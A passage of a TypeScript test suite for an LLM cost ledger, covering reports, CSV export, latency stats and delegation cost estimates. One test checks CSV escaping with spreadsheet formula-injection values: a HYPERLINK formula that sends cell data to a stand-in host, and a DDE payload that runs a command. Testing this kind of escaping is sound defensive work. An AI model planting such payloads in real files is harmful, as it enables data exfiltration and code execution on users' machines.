import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openDatabase, type DB } from '../../src/engine/store/db.js';
import { Ledger, migrations } from '../../src/engine/ledger/ledger.js';
import { migrations as routerMigrations } from '../../src/engine/router/router.js';

/** The ledger's tables and the one decision record (router_decisions, the router's migrations). */
const ALL = [...migrations, ...routerMigrations];
import { loadPriceTable } from '../../src/engine/ledger/prices.js';
import type { CompletionEntry } from '../../src/engine/ledger/types.js';
import { ledgerRepo } from '../helpers/repos.js';

// ---------------------------------------------------------------------------------------------
// The script: entries at known times, and an independent hand calculation from them and the raw
// price file (read as JSON here; no ledger code computes the expected numbers).
// ---------------------------------------------------------------------------------------------
const RAW = JSON.parse(readFileSync(new URL('../../data/prices.json', import.meta.url), 'utf8')) as {
  hostModel: string;
  prices: { model: string; input: number; output: number }[];
};
const priceOf = (m: string) => RAW.prices.find((p) => p.model === m)!;

const NOW = Date.parse('2026-11-21T12:00:00Z');
const H = 3_600_000;
const D = 24 * H;
// local cost: $0.20/h plus 100 W at $0.30/kWh = $0.23 per hour of latency
const LOCAL = { usdPerHour: 0.2, watts: 100, usdPerKwh: 0.3 };
const LOCAL_PER_MS = (0.2 + 0.1 * 0.3) / 3_600_000;

interface Scripted {
  at: number;
  e: CompletionEntry;
  decision?: {
    route: string;
    strategy: string;
    agentId?: string;
    sensitive?: boolean;
    cats?: string[];
    forced?: boolean;
    level?: string;
    reasons?: string[];
  };
}

const base = (over: Partial<CompletionEntry>): CompletionEntry => ({
  model: 'qwen-tiny',
  backend: 'gguf',
  promptTokens: 0,
  completionTokens: 0,
  tokenCountMethod: 'tokenizer',
  latencyMs: 0,
  ttftMs: null,
  tokensPerSecond: 0,
  overheadTokensIn: 0,
  overheadTokensOut: 0,
  ok: true,
  ...over,
});

const SCRIPT: Scripted[] = [
  // 40 days ago: only in "all"
  {
    at: NOW - 40 * D,
    e: base({
      promptTokens: 5000,
      completionTokens: 2000,
      latencyMs: 9000,
      overheadTokensIn: 2100,
      overheadTokensOut: 60,
      route: 'local',
      strategy: 'cost_optimized',
      agentId: 'alpha',
      tokensPerSecond: 30,
    }),
  },
  // 10 days ago: in month
  {
    at: NOW - 10 * D,
    e: base({
      model: 'llama-small',
      backend: 'openai-http',
      promptTokens: 1200,
      completionTokens: 640,
      latencyMs: 4000,
      overheadTokensIn: 700,
      overheadTokensOut: 1250,
      decisionId: 'dec-1',
      tokenCountMethod: 'estimate:chars/4',
      tokensPerSecond: 55,
    }),
    decision: {
      route: 'local_required',
      strategy: 'privacy_first',
      agentId: 'beta',
      sensitive: true,
      cats: ['email', 'phone'],
      level: 'low',
      reasons: ['privacy: email'],
    },
  },
  // 3 days ago: in week and month
  {
    at: NOW - 3 * D,
    e: base({
      promptTokens: 300,
      completionTokens: 900,
      latencyMs: 2500,
      ttftMs: 120,
      overheadTokensIn: 950,
      overheadTokensOut: 320,
      route: 'local',
      strategy: 'balanced',
      agentId: 'alpha',
      tokensPerSecond: 40,
    }),
  },
  // failed call: no gross, still overhead and local cost
  {
    at: NOW - 3 * D + 5000,
    e: base({
      promptTokens: 800,
      completionTokens: 0,
      latencyMs: 1500,
      overheadTokensIn: 90,
      overheadTokensOut: 820,
      route: 'local',
      strategy: 'balanced',
      agentId: 'alpha',
      ok: false,
      error: 'model crashed',
    }),
  },
  // 20 hours ago: in day
  {
    at: NOW - 20 * H,
    e: base({
      model: 'llama-small',
      backend: 'openai-http',
      promptTokens: 2048,
      completionTokens: 512,
      latencyMs: 3100,
      ttftMs: 300,
      overheadTokensIn: 530,
      overheadTokensOut: 2100,
      decisionId: 'dec-2',
      tokensPerSecond: 60,
    }),
    decision: {
      route: 'local',
      strategy: 'latency_optimized',
      agentId: 'gamma',
      level: 'medium',
      reasons: ['simple task', 'local healthy'],
    },
  },
  // 30 minutes ago: in hour; agent id with a comma and a quote to exercise CSV quoting; no route/strategy/decision
  {
    at: NOW - 30 * 60_000,
    e: base({
      promptTokens: 150,
      completionTokens: 1500,
      latencyMs: 6000,
      ttftMs: 80,
      overheadTokensIn: 1540,
      overheadTokensOut: 25,
      agentId: 'team "x", a',
      tokensPerSecond: 45,
    }),
  },
  // exactly now
  {
    at: NOW,
    e: base({
      promptTokens: 100,
      completionTokens: 100,
      latencyMs: 500,
      ttftMs: 50,
      overheadTokensIn: 120,
      overheadTokensOut: 110,
      overheadTokenMethod: 'estimate:chars/4',
      route: 'local',
      strategy: 'balanced',
      tokensPerSecond: 50,
    }),
  },
];
// decisions without completions (routed to cloud)
const CLOUD_DECISIONS = [
  { at: NOW - 2 * H, id: 'dec-3', route: 'cloud', strategy: 'quality_optimized', forced: true },
  { at: NOW - 5 * D, id: 'dec-4', route: 'cloud', strategy: 'balanced', forced: false },
];

interface Sum {
  calls: number;
  ok: number;
  pt: number;
  ct: number;
  oi: number;
  oo: number;
  ms: number;
  gross: number;
  over: number;
  local: number;
}

function hand(host: string, keep: (s: Scripted) => boolean, key: (s: Scripted) => string = () => 'all'): Map<string, Sum> {
  const p = priceOf(host);
  const out = new Map<string, Sum>();
  for (const s of SCRIPT.filter(keep)) {
    const k = key(s);
    const a = out.get(k) ?? { calls: 0, ok: 0, pt: 0, ct: 0, oi: 0, oo: 0, ms: 0, gross: 0, over: 0, local: 0 };
    a.calls += 1;
    if (s.e.ok) {
      a.ok += 1;
      a.pt += s.e.promptTokens;
      a.ct += s.e.completionTokens;
      a.gross += (s.e.promptTokens / 1e6) * p.input + (s.e.completionTokens / 1e6) * p.output;
    }
    a.oi += s.e.overheadTokensIn;
    a.oo += s.e.overheadTokensOut;
    a.ms += s.e.latencyMs;
    a.over += (s.e.overheadTokensIn / 1e6) * p.input + (s.e.overheadTokensOut / 1e6) * p.output;
    a.local += s.e.latencyMs * LOCAL_PER_MS;
    out.set(k, a);
  }
  return out;
}

/** The hand figures plus the late completion of the rollup test (70 + 30 tokens, 800 ms, no overhead). */
function addLate(h: Sum): Sum {
  const p = priceOf(RAW.hostModel);
  const g = (70 * p.input + 30 * p.output) / 1e6;
  return {
    ...h,
    calls: h.calls + 1,
    ok: h.ok + 1,
    pt: h.pt + 70,
    ct: h.ct + 30,
    ms: h.ms + 800,
    gross: h.gross + g,
    local: h.local + 800 * LOCAL_PER_MS,
  };
}

function expectRow(
  row: {
    calls: number;
    okCalls: number;
    promptTokens: number;
    completionTokens: number;
    overheadTokensIn: number;
    overheadTokensOut: number;
    grossUsd: number;
    overheadUsd: number;
    localCostUsd: number;
    netUsd: number;
  },
  h: Sum,
) {
  expect(row.calls).toBe(h.calls);
  expect(row.okCalls).toBe(h.ok);
  expect(row.promptTokens).toBe(h.pt);
  expect(row.completionTokens).toBe(h.ct);
  expect(row.overheadTokensIn).toBe(h.oi);
  expect(row.overheadTokensOut).toBe(h.oo);
  expect(row.grossUsd).toBeCloseTo(h.gross, 9);
  expect(row.overheadUsd).toBeCloseTo(h.over, 9);
  expect(row.localCostUsd).toBeCloseTo(h.local, 9);
  expect(row.netUsd).toBeCloseTo(h.gross - h.over - h.local, 9);
}

describe('Ledger', () => {
  let dir: string;
  let file: string;
  let db: DB;
  let ledger: Ledger;
  let now: number;

  const open = () => {
    db = openDatabase(file, ALL);
    ledger = new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable(), localCost: LOCAL, now: () => now });
  };

  beforeEach(async () => {
    dir = mkdtempSync(join(tmpdir(), 'ledger-'));
    file = join(dir, 'ledger.db');
    open();
    for (const s of SCRIPT) {
      now = s.at;
      if (s.decision) {
        const d = s.decision;
        await ledger.recordDecision({
          decisionId: s.e.decisionId!,
          route: d.route,
          strategy: d.strategy,
          complexityLevel: d.level ?? 'low',
          complexityScore: 0.3,
          sensitive: d.sensitive ?? false,
          privacyCategories: d.cats ?? [],
          reasons: d.reasons ?? [],
          estimatedInputTokens: s.e.promptTokens,
          estimatedOutputTokens: s.e.completionTokens,
          latencyMs: 2,
          agentId: d.agentId,
          forced: d.forced ?? false,
        });
      }
      await ledger.recordCompletion(s.e);
    }
    for (const c of CLOUD_DECISIONS) {
      now = c.at;
      await ledger.recordDecision({
        decisionId: c.id,
        route: c.route,
        strategy: c.strategy,
        complexityLevel: 'high',
        complexityScore: 0.9,
        sensitive: false,
        privacyCategories: [],
        reasons: ['complex task'],
        reasonCodes: ['complexity_high'],
        estimatedInputTokens: 3000,
        estimatedOutputTokens: 2000,
        latencyMs: 3,
        forced: c.forced,
      });
    }
    now = NOW;
  });

  afterEach(() => {
    db.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('totals for "all" equal the hand calculation on the default host model', async () => {
    const r = await ledger.report({ period: 'all' });
    const h = hand(RAW.hostModel, () => true).get('all')!;
    expect(r.hostModel).toBe(RAW.hostModel);
    expect(r.rows).toHaveLength(1);
    expectRow(r.totals, h);
    expectRow(r.rows[0], h);
    expect(r.totals.errors).toBe(1);
    expect(r.tokenCountMethods).toEqual({ 'estimate:chars/4': 1, tokenizer: 6 });
    expect(r.method).toContain(RAW.hostModel);
    expect(r.method).toContain('tokenizer (6)');
    expect(r.method).toMatch(/overhead/i);
    expect(r.overheadTokenMethods).toEqual({ '(not named)': 6, 'estimate:chars/4': 1 });
    expect(r.method).toContain('overhead tokens counted by: (not named) (6), estimate:chars/4 (1)');
    expect(r.decisions).toEqual({
      total: 4,
      byRoute: { cloud: 2, local: 1, local_required: 1 },
      forced: 1,
      sensitive: 1,
      byReason: { complexity_high: 2, unclassified: 3 },
    });
    // the user's own figures only: no block naming other products or other ways of counting
    expect(r).not.toHaveProperty('comparisons');
    expect(JSON.stringify(r)).not.toMatch(/houtini|LiteLLM|design's source/i);
    // net is really smaller than gross here (overhead and local cost are not zero)
    expect(r.totals.netUsd).toBeLessThan(r.totals.grossUsd);
  });

  it('prices against another host model when asked, and refuses an unknown one naming the known models', async () => {
    const r = await ledger.report({ period: 'all', hostModel: 'claude-haiku-4-5' });
    expectRow(r.totals, hand('claude-haiku-4-5', () => true).get('all')!);
    // a dated alias resolves to the same model
    expect((await ledger.report({ hostModel: 'claude-opus-4-5-20251101' })).hostModel).toBe('claude-opus-4-5');
    await expect(ledger.report({ hostModel: 'gpt-9' })).rejects.toThrow(/unknown host model "gpt-9"; known models: .*claude-sonnet-4-5/);
  });

  it('filters by rolling period', async () => {
    const within = (ms: number) => (s: Scripted) => s.at >= NOW - ms && s.at <= NOW;
    for (const [period, ms] of [
      ['hour', H],
      ['day', D],
      ['week', 7 * D],
      ['month', 30 * D],
    ] as const) {
      const r = await ledger.report({ period });
      const h = hand(RAW.hostModel, within(ms)).get('all')!;
      expectRow(r.totals, h);
      expect(r.from).toBe(new Date(NOW - ms).toISOString());
      expect(r.to).toBe(new Date(NOW).toISOString());
    }
    expect((await ledger.report({ period: 'hour' })).totals.calls).toBe(2);
    expect((await ledger.report({ period: 'week' })).decisions.byRoute).toEqual({ cloud: 2, local: 1 });
  });

  it('filters by from/to range: from inclusive, to exclusive, dates and date-times', async () => {
    const from = NOW - 3 * D;
    const to = NOW;
    const r = await ledger.report({ from: new Date(from).toISOString(), to: new Date(to).toISOString() });
    expect(r.period).toBe('range');
    expectRow(r.totals, hand(RAW.hostModel, (s) => s.at >= from && s.at < to).get('all')!);
    // the entry exactly at "from" is in, the one exactly at "to" is out
    expect(r.totals.calls).toBe(4);
    // a date-only range covers whole UTC days
    const day = await ledger.report({ from: '2026-11-18', to: '2026-11-19' });
    const d0 = Date.parse('2026-11-18T00:00:00Z');
    expectRow(day.totals, hand(RAW.hostModel, (s) => s.at >= d0 && s.at < d0 + D).get('all')!);
    expect(day.totals.calls).toBe(2);
    // only "from": up to now
    expect((await ledger.report({ from: new Date(NOW - H).toISOString() })).totals.calls).toBe(2);
  });

  it('groups by model, route, strategy, agent and day', async () => {
    const all = () => true;
    const cases: [Parameters<Ledger['report']>[0]['groupBy'], (s: Scripted) => string][] = [
      ['model', (s) => s.e.model],
      ['route', (s) => s.e.route ?? s.decision?.route ?? '(none)'],
      ['strategy', (s) => s.e.strategy ?? s.decision?.strategy ?? '(none)'],
      ['agent', (s) => s.e.agentId ?? s.decision?.agentId ?? '(none)'],
      ['day', (s) => new Date(s.at).toISOString().slice(0, 10)],
    ];
    for (const [groupBy, key] of cases) {
      const r = await ledger.report({ period: 'all', groupBy });
      const h = hand(RAW.hostModel, all, key);
      expect(r.rows.map((x) => x.group).sort(), groupBy).toEqual([...h.keys()].sort());
      for (const row of r.rows) expectRow(row, h.get(row.group)!);
      // groups add up to the total
      expect(r.rows.reduce((a, x) => a + x.calls, 0)).toBe(r.totals.calls);
    }
    expect((await ledger.report({ groupBy: 'route' })).rows.find((x) => x.group === 'local_required')!.calls).toBe(1);
  });

  it('writes CSV that parses back to the same figures, with quoting', async () => {
    const r = await ledger.report({ period: 'all', groupBy: 'agent' });
    const csv = ledger.toCsv(r);
    const recs = parse(csv, { columns: true }) as Record<string, string>[];
    expect(recs).toHaveLength(r.rows.length + 1);
    const total = recs.pop()!;
    expect(total.group).toBe('total');
    expect(Number(total.net_usd)).toBeCloseTo(r.totals.netUsd, 10);
    for (const [i, rec] of recs.entries()) {
      const row = r.rows[i];
      expect(rec.group).toBe(row.group);
      expect(rec.group_by).toBe('agent');
      expect(rec.host_model).toBe(RAW.hostModel);
      expect(Number(rec.calls)).toBe(row.calls);
      expect(Number(rec.prompt_tokens)).toBe(row.promptTokens);
      expect(Number(rec.gross_usd)).toBe(row.grossUsd);
      expect(Number(rec.overhead_usd)).toBe(row.overheadUsd);
      expect(Number(rec.local_cost_usd)).toBe(row.localCostUsd);
      expect(Number(rec.net_usd)).toBe(row.netUsd);
    }
    expect(recs.map((x) => x.group)).toContain('team "x", a');
    // ungrouped: one line, no separate total
    expect(parse(ledger.toCsv(await ledger.report({})), { columns: true })).toHaveLength(1);
  });

  it('escapes CSV cells a spreadsheet would run as a formula (agent ids come from tool arguments)', async () => {
    const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
    for (const agentId of hostile) await ledger.recordCompletion(base({ agentId, promptTokens: 10, completionTokens: 10, route: 'local' }));
    const r = await ledger.report({ period: 'all', groupBy: 'agent' });
    // ids are trimmed when recorded; a cell starting with a tab or CR is escaped too
    r.rows.push({ ...r.rows[0], group: '\tTAB' }, { ...r.rows[0], group: '\rCR' });
    hostile.push('\tTAB', '\rCR');
    const recs = parse(ledger.toCsv(r), { columns: true, relax_quotes: true }) as Record<string, string>[];
    for (const agentId of hostile) {
      const rec = recs.find((x) => x.group === `'${agentId}`);
      expect(rec, `no escaped cell for ${JSON.stringify(agentId)}`).toBeDefined();
      // figures stay numbers (a negative net is not text)
      expect(Number(rec!.calls)).toBe(r.rows.find((x) => x.group === agentId)!.calls);
    }
    for (const rec of recs) expect(rec.group).not.toMatch(/^[=+\-@\t\r]/);
    // a negative number is still written as a number, not escaped
    const neg = recs.find((x) => Number(x.net_usd) < 0);
    expect(neg?.net_usd).toMatch(/^-\d/);
  });

  it('keeps every figure across a restart (close and reopen the database)', async () => {
    const before = await ledger.report({ period: 'month', groupBy: 'model' });
    const stats = await ledger.backendStats();
    db.close();
    open();
    const after = await ledger.report({ period: 'month', groupBy: 'model' });
    expect(after).toEqual(before);
    expect(await ledger.backendStats()).toEqual(stats);
    // migrations ran once
    expect((db.prepare("SELECT COUNT(*) AS n FROM schema_migrations WHERE module = 'ledger'").get() as { n: number }).n).toBe(
      migrations.length,
    );
  });

  it('rejects bad queries with messages that say how to fix them', async () => {
    await expect(ledger.report({ period: 'year' as never })).rejects.toThrow(
      /unknown period "year"; use one of hour, day, week, month, all/,
    );
    await expect(ledger.report({ groupBy: 'team' as never })).rejects.toThrow(
      /unknown groupBy "team"; use one of model, route, strategy, agent, day, node, none/,
    );
    await expect(ledger.report({ from: '2026-11-20', to: '2026-11-10' })).rejects.toThrow(
      /"from" \(2026-11-20\) is after "to" \(2026-11-10\)/,
    );
    await expect(ledger.report({ from: 'yesterday' })).rejects.toThrow(/invalid "from" date "yesterday"; use an ISO 8601 date/);
    await expect(ledger.report({ to: '2026-13-45' })).rejects.toThrow(/invalid "to" date/);
    await expect(ledger.report({ period: 'day', from: '2026-11-01' })).rejects.toThrow(/either "period" or a "from"\/"to" range/);
    await expect(ledger.timeseries({ bucket: 'minute' as never })).rejects.toThrow(/unknown bucket "minute"/);
    await expect(ledger.recordCompletion(base({ promptTokens: -5 }))).rejects.toThrow(/promptTokens must be a finite number >= 0/);
    await expect(ledger.recordCompletion(base({ model: ' ' }))).rejects.toThrow(/model must be a non-empty string/);
    expect(() => new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable(), localCost: { watts: 60 } })).toThrow(
      /watts and localCost.usdPerKwh go together/,
    );
    expect(() => new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable(), localCost: { usdPerHour: -1 } })).toThrow(
      /usdPerHour must be a finite number >= 0/,
    );
  });

  it('per-backend stats use nearest-rank percentiles of successful calls', async () => {
    const s = await ledger.backendStats();
    const gguf = s.find((x) => x.backend === 'gguf')!;
    // successful gguf latencies sorted: 500, 2500, 6000, 9000 (the failed 1500 is excluded from latency)
    expect(gguf).toMatchObject({ model: 'qwen-tiny', calls: 5, errors: 1, latencyP50: 2500, latencyP95: 9000, latencyP99: 9000 });
    // ttft known for 3 successful calls: 50, 80, 120 -> median 80; tokens/s 30, 40, 45, 50 -> p50 rank 2 = 40
    expect(gguf.ttftP50).toBe(80);
    expect(gguf.tokensPerSecondP50).toBe(40);
    const http = s.find((x) => x.backend === 'openai-http')!;
    expect(http).toMatchObject({ model: 'llama-small', calls: 2, errors: 0, latencyP50: 3100, latencyP99: 4000, ttftP50: 300 });
    // a window applies
    expect((await ledger.backendStats({ period: 'hour' })).map((x) => x.calls)).toEqual([2]);
  });

  it('recentLatencyP50 reads the newest successful completions', async () => {
    // newest first: 500 (gguf), 6000 (gguf), 3100 (http), [1500 failed], 2500 (gguf), 4000 (http), 9000 (gguf)
    expect(ledger.recentLatencyP50(undefined, 3)).toBe(3100);
    expect(ledger.recentLatencyP50('gguf', 2)).toBe(500);
    expect(ledger.recentLatencyP50('gguf')).toBe(2500);
    expect(ledger.recentLatencyP50('nope')).toBeNull();
  });

  it('estimate() and recentLatencyP50 read an in-memory snapshot: loaded at start, updated by own completions, reloaded for others', async () => {
    // a ledger opened on the stored history answers from it once ready() resolved (no store read while routing)
    const db2 = openDatabase(file, ALL);
    try {
      const other = new Ledger({ repo: ledgerRepo(db2), prices: loadPriceTable(), localCost: LOCAL, now: () => now });
      await other.ready();
      expect(other.recentLatencyP50(undefined, 3)).toBe(3100);
      expect(other.estimate(1000, 400).computeUsd).toBeCloseTo(ledger.estimate(1000, 400).computeUsd, 12);
      // its own completion shows at once, once recorded
      await other.recordCompletion(base({ latencyMs: 100, tokensPerSecond: 1000 }));
      expect(other.recentLatencyP50('gguf', 1)).toBe(100);
      // the first ledger sees another connection's completion only after its snapshot is reloaded
      expect(ledger.recentLatencyP50('gguf', 1)).toBe(500);
      await ledger.refreshSnapshot();
      expect(ledger.recentLatencyP50('gguf', 1)).toBe(100);
      expect(ledger.recentLatencyP50(undefined, 3)).toBe(500); // 100, 500, 6000
    } finally {
      db2.close();
    }
  });

  it('upgrades a version-1 ledger database in place', async () => {
    const f = join(dir, 'v1.db');
    const v1 = openDatabase(
      f,
      migrations.filter((m) => m.version === 1),
    );
    v1.prepare(
      `INSERT INTO ledger_completions (ts, model, backend, prompt_tokens, completion_tokens, token_count_method, latency_ms, ttft_ms,
        tokens_per_second, overhead_in, overhead_out, ok) VALUES (?, 'm', 'gguf', 1000, 1000, 'tokenizer', 10, NULL, 5, 0, 0, 1)`,
    ).run(NOW - H);
    v1.close();
    const db2 = openDatabase(f, ALL);
    try {
      const l2 = new Ledger({ repo: ledgerRepo(db2), prices: loadPriceTable(), now: () => NOW });
      const p = priceOf(RAW.hostModel);
      expect((await l2.report()).totals.grossUsd).toBeCloseTo((1000 * p.input + 1000 * p.output) / 1e6, 10);
      await l2.recordCompletion(base({ overheadTokensIn: 5, overheadTokenMethod: 'estimate:chars/4' }));
      expect((await l2.report()).overheadTokenMethods).toEqual({ 'estimate:chars/4': 1 });
    } finally {
      db2.close();
    }
  });

  it('decision stats count routes, complexity, reasons and privacy catches', async () => {
    const d = await ledger.decisionStats();
    expect(d.total).toBe(4);
    expect(d.forced).toBe(1);
    expect(d.byRoute).toEqual({ cloud: 2, local: 1, local_required: 1 });
    expect(d.byStrategy).toEqual({ privacy_first: 1, latency_optimized: 1, quality_optimized: 1, balanced: 1 });
    expect(d.byComplexity).toEqual({ low: 1, medium: 1, high: 2 });
    // by code; texts recorded without codes are classified by their wording, and one no policy path writes counts as unclassified
    expect(d.byReason).toEqual([
      { code: 'unclassified', count: 3 },
      { code: 'complexity_high', count: 2 },
    ]);
    expect(d.privacyCatches).toEqual({ total: 1, byCategory: { email: 1, phone: 1 } });
    // a second record of the same decision is ignored
    await ledger.recordDecision({
      decisionId: 'dec-3',
      route: 'local',
      strategy: 'balanced',
      complexityLevel: 'low',
      complexityScore: 0,
      sensitive: false,
      privacyCategories: [],
      reasons: [],
      estimatedInputTokens: 1,
      estimatedOutputTokens: 1,
      latencyMs: 1,
      forced: false,
    });
    expect((await ledger.decisionStats()).byRoute.cloud).toBe(2);
  });

  it('timeseries buckets by UTC day with running gross and net totals', async () => {
    const t = await ledger.timeseries({ period: 'all', bucket: 'day' });
    const h = hand(
      RAW.hostModel,
      () => true,
      (s) => new Date(s.at).toISOString().slice(0, 10),
    );
    const days = [...h.keys()].sort();
    expect(t.points.map((p) => p.t)).toEqual(days);
    let g = 0;
    let n = 0;
    for (const [i, day] of days.entries()) {
      const x = h.get(day)!;
      g += x.gross;
      n += x.gross - x.over - x.local;
      expect(t.points[i].grossUsd).toBeCloseTo(x.gross, 9);
      expect(t.points[i].cumulativeGrossUsd).toBeCloseTo(g, 9);
      expect(t.points[i].cumulativeNetUsd).toBeCloseTo(n, 9);
    }
    expect(t.routes.find((r) => r.t === '2026-11-21')!.counts).toEqual({ cloud: 1 });
    // a 24 h window picks hourly buckets
    expect((await ledger.timeseries({ period: 'day' })).bucket).toBe('hour');
  });

  it('latency histogram counts successful calls per backend into the bins', async () => {
    const hist = await ledger.latencyHistogram({ edges: [0, 1000, 5000] });
    expect(hist.edges).toEqual([0, 1000, 5000]);
    const by = Object.fromEntries(hist.backends.map((b) => [b.backend, b.counts]));
    expect(by.gguf).toEqual([1, 1, 2]); // 500 | 2500 | 6000, 9000
    expect(by['openai-http']).toEqual([0, 2, 0]); // 3100, 4000
    await expect(ledger.latencyHistogram({ edges: [5, 1] })).rejects.toThrow(/strictly increasing/);
  });

  it('estimate() prices cloud work and the delegation overhead on the host model', async () => {
    const p = priceOf(RAW.hostModel);
    const e = ledger.estimate(1000, 400);
    expect(e.cloudModel).toBe(RAW.hostModel);
    expect(e.cloudUsd).toBeCloseTo((1000 * p.input + 400 * p.output) / 1e6, 10);
    // the host writes the 1000-token task as arguments (output price) and reads the 400-token result (input price)
    expect(e.overheadUsd).toBeCloseTo((1000 * p.output + 400 * p.input) / 1e6, 10);
    // local compute: 400 tokens at the median tokens/s of successful calls (30,40,45,50,55,60 -> nearest-rank p50 = 45)
    expect(e.computeUsd).toBeCloseTo((400 / 45 / 3600) * 0.23, 10);
    expect(e.localUsd).toBeCloseTo(e.overheadUsd + e.computeUsd, 10);
    // a tool that reads its input itself: only the result passes through the host
    const lean = new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable(), estimateOverhead: { argsFraction: 0 } });
    expect(lean.estimate(1000, 400).localUsd).toBeCloseTo((400 * p.input) / 1e6, 10);
    expect(() => ledger.estimate(-1, 0)).toThrow(/inputTokens must be a finite number >= 0/);
  });

  it('estimateDelegation(): host tokens and net dollars of a task done itself, by value and by reference', async () => {
    const p = priceOf(RAW.hostModel);
    const plain = new Ledger({ repo: ledgerRepo(db), prices: loadPriceTable() });
    // a 2,000-token file summarised into 200 tokens; by value the arguments carry it (2,010), by reference a path (20)
    const v = plain.estimateDelegation({ mode: 'value', materialTokens: 2000, argsTokens: 2010, resultTokens: 260, answerTokens: 200 });
    const r = plain.estimateDelegation({ mode: 'reference', materialTokens: 2000, argsTokens: 20, resultTokens: 260, answerTokens: 200 });
    const self = (2000 * p.input + 200 * p.output) / 1e6;
    expect(v.self.usd).toBeCloseTo(self, 10);
    // by value the host still reads the file (to paste it), writes it, and reads the result
    expect(v.delegated).toMatchObject({ inputTokens: 2260, outputTokens: 2010 });
    expect(v.netUsd).toBeCloseTo(self - (2260 * p.input + 2010 * p.output) / 1e6, 10);
    expect(r.delegated).toMatchObject({ inputTokens: 260, outputTokens: 20 });
    expect(r.netUsd).toBeCloseTo(self - (260 * p.input + 20 * p.output) / 1e6, 10);
    expect(r.avoidedHostInputTokens).toBe(2000);
    expect(v.netUsd).toBeLessThan(0);
    expect(r.netUsd).toBeGreaterThan(0);
    expect(() => plain.estimateDelegation({ ...r, mode: 'paste' as never })).toThrow(/mode must be "value" or "reference"/);
  });

  it('tells listeners when something was recorded', async () => {
    let n = 0;
    const off = ledger.onChange(() => n++);
    await ledger.recordCompletion(base({ promptTokens: 1, completionTokens: 1 }));
    await ledger.recordDecision({
      decisionId: 'new',
      route: 'local',
      strategy: 'balanced',
      complexityLevel: 'low',
      complexityScore: 0,
      sensitive: false,
      privacyCategories: [],
      reasons: [],
      estimatedInputTokens: 1,
      estimatedOutputTokens: 1,
      latencyMs: 1,
      forced: false,
    });
    off();
    await ledger.recordCompletion(base({}));
    expect(n).toBe(2);
  });

  it('records how the input came (by value or by reference) and shows the two apart, with the host input avoided', async () => {
    const p = priceOf(RAW.hostModel);
    now = NOW - 10 * 60_000;
    // by reference: the host wrote a path (40 tokens of arguments) and did not read the 6,000-token file
    await ledger.recordCompletion(
      base({
        promptTokens: 6100,
        completionTokens: 250,
        latencyMs: 3000,
        overheadTokensIn: 260,
        overheadTokensOut: 40,
        inputMode: 'reference',
        avoidedHostInputTokens: 6000,
      }),
    );
    await ledger.recordCompletion(
      base({
        promptTokens: 0,
        completionTokens: 0,
        overheadTokensIn: 30,
        overheadTokensOut: 40,
        inputMode: 'reference',
        avoidedHostInputTokens: 6000,
        ok: false,
        error: 'x',
      }),
    );
    // by value: the host pasted the same material into the call
    await ledger.recordCompletion(
      base({
        promptTokens: 6100,
        completionTokens: 250,
        latencyMs: 3000,
        overheadTokensIn: 260,
        overheadTokensOut: 6030,
        inputMode: 'value',
      }),
    );
    now = NOW;
    const r = await ledger.report({ period: 'hour' });
    const ref = r.byInputMode.reference;
    const val = r.byInputMode.value;
    expect(ref).toMatchObject({ calls: 2, okCalls: 1, avoidedHostInputTokens: 6000, overheadTokensOut: 80 });
    expect(ref.avoidedHostInputUsd).toBeCloseTo((6000 * p.input) / 1e6, 10);
    expect(val).toMatchObject({ calls: 1, avoidedHostInputTokens: 0, overheadTokensOut: 6030 });
    // calls recorded without a mode stay apart
    expect(r.byInputMode['(not given)'].calls).toBe(r.totals.calls - 3);
    expect(r.totals.avoidedHostInputTokens).toBe(6000);
    // the avoided reading is part of gross (the local model read the material instead), not added twice
    expect(ref.grossUsd).toBeCloseTo((6100 * p.input + 250 * p.output) / 1e6, 10);
    expect(ref.netUsd).toBeGreaterThan(0);
    expect(val.netUsd).toBeLessThan(ref.netUsd);
    expect(r.method).toMatch(/by reference/);
    // CSV carries the avoided tokens; a rollup keeps the split
    const csv = parse(ledger.toCsv(await ledger.report({ period: 'all', groupBy: 'model' })), { columns: true }) as Record<
      string,
      string
    >[];
    expect(Number(csv.find((x) => x.group === 'total')!.avoided_host_input_tokens)).toBe(6000);
    const before = (await ledger.report({ period: 'all' })).byInputMode;
    now = NOW + 5 * D;
    await ledger.rollup({ olderThanDays: 1 });
    expect((await ledger.report({ period: 'all' })).byInputMode).toEqual(before);
    // bad values are refused with what to fix
    await expect(ledger.recordCompletion(base({ inputMode: 'file' as never }))).rejects.toThrow(/inputMode must be "value" or "reference"/);
    await expect(ledger.recordCompletion(base({ inputMode: 'value', avoidedHostInputTokens: 10 }))).rejects.toThrow(
      /avoidedHostInputTokens applies to inputMode "reference"/,
    );
    await expect(ledger.recordCompletion(base({ inputMode: 'reference', avoidedHostInputTokens: -1 }))).rejects.toThrow(
      /avoidedHostInputTokens must be a finite number >= 0/,
    );
  });

  it('live backend stats: counts from counters of every process (kept across rollups), percentiles of the newest calls', async () => {
    const db2 = openDatabase(file, ALL);
    try {
      const other = new Ledger({ repo: ledgerRepo(db2), prices: loadPriceTable(), now: () => now });
      await other.recordCompletion(base({ latencyMs: 700, tokensPerSecond: 10 }));
      await other.recordCompletion(base({ backend: 'openai-http', model: 'llama-small', ok: false, error: 'HTTP 500' }));
      const live = await ledger.liveBackendStats();
      const gguf = live.find((x) => x.backend === 'gguf')!;
      expect(gguf).toMatchObject({ model: 'qwen-tiny', calls: 6, errors: 1 });
      expect(live.find((x) => x.backend === 'openai-http')).toMatchObject({ model: 'llama-small', calls: 3, errors: 1 });
      // percentiles: successful gguf calls of the last 7 days, newest first 700, 500, 6000, 2500 (9000 is 40 days old)
      expect(gguf).toMatchObject({ latencyP50: 700, latencyP99: 6000 });
      expect((await ledger.liveBackendStats(2))[0]).toMatchObject({ calls: 6, latencyP50: 500, latencyP99: 700 });
      expect(await other.liveBackendStats()).toEqual(live);
      await other.rollup({ olderThanDays: 1 });
      expect((await ledger.liveBackendStats()).map((x) => [x.backend, x.calls, x.errors])).toEqual([
        ['gguf', 6, 1],
        ['openai-http', 3, 1],
      ]);
